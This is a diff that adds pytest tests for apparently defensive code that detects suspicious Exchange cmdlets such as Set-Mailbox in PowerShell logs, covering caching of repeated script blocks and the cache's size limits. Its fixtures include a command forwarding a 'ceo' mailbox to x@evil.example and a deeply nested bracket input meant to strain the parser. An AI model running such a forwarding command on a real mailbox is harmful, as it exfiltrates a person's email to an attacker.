@@ -60,3 +60,48 @@ def test_hostile_cmdlet_text_costs_steps_in_proportion_to_its_length():
     assert steps > 0
     assert doubled <= 2.2 * steps, "find_invocations over unclosed Set-Mailbox calls: %d steps for 400, %d for 800" % (
         steps, doubled)
+
+
+def test_a_script_block_logged_again_is_read_once_and_answers_the_same(monkeypatch):
+    """Repeated script blocks take their answer from the recent readings: read once, the same
+    calls (fresh dicts each time), and a budget message given again for each event."""
+    from app.normalise import cmdlet_text
+    from app.problems import ProblemLog
+
+    monkeypatch.setattr(cmdlet_text, "_RECENT_READINGS", cmdlet_text.OrderedDict())
+    reads = []
+    real_invocations = cmdlet_text.invocations
+    monkeypatch.setattr(cmdlet_text, "invocations", lambda *args: reads.append(1) or real_invocations(*args))
+    pattern = cmdlet_pattern(["Set-Mailbox"])
+    script = "Set-Mailbox -Identity ceo -ForwardingSmtpAddress x@evil.example"
+    first = find_invocations(script, pattern)
+    first[0][1]["identity"] = "changed by a caller"
+    second = find_invocations(script, pattern)
+    assert second == [("Set-Mailbox", {"identity": "ceo", "forwardingsmtpaddress": "x@evil.example"})]
+    assert len(reads) == 1
+    assert find_invocations(script, cmdlet_pattern(["New-InboxRule", "Set-Mailbox"])) == second   # other names: read again
+    assert len(reads) == 2
+
+    hostile = "Set-Mailbox -Identity ceo -ForwardingSmtpAddress x\n" + "(" * 300 + "Get-Date" + ")" * 300
+    messages = []
+    for _ in range(2):
+        problems = ProblemLog()
+        assert find_invocations(hostile, pattern, problems)[0][0] == "Set-Mailbox"
+        messages.append(problems.messages())
+    assert len(reads) == 3 and messages[0] == messages[1] and any("nests brackets" in m for m in messages[1])
+
+
+def test_the_recent_readings_stay_bounded_and_keep_no_long_values(monkeypatch):
+    from app.normalise import cmdlet_text
+
+    monkeypatch.setattr(cmdlet_text, "_RECENT_READINGS", cmdlet_text.OrderedDict())
+    monkeypatch.setattr(cmdlet_text, "RECENT_READINGS", 5)
+    pattern = cmdlet_pattern(["Set-Mailbox"])
+    for number in range(12):
+        find_invocations("Set-Mailbox -Identity user%d -ForwardingAddress m" % number, pattern)
+    assert len(cmdlet_text._RECENT_READINGS) == 5
+    long_value = "Set-Mailbox -Identity ceo -ForwardingAddress " + "m" * (cmdlet_text.KEPT_VALUE_CHARS + 1)
+    assert find_invocations(long_value, pattern)[0][1]["forwardingaddress"].startswith("mmm")
+    assert len(cmdlet_text._RECENT_READINGS) == 5 and all(
+        len(value) < 100 for calls, _ in cmdlet_text._RECENT_READINGS.values() for _, parameters in calls
+        for _, value in parameters)
